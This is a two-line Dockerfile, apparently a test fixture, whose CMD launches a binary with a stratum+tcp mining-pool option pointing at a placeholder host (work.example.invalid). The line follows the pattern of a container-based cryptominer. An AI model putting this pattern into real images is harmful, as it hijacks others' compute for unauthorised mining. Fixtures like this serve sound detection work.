FROM debian:12-slim
CMD ["/server", "-o", "STRATUM+TCP://work.example.invalid:3333"]
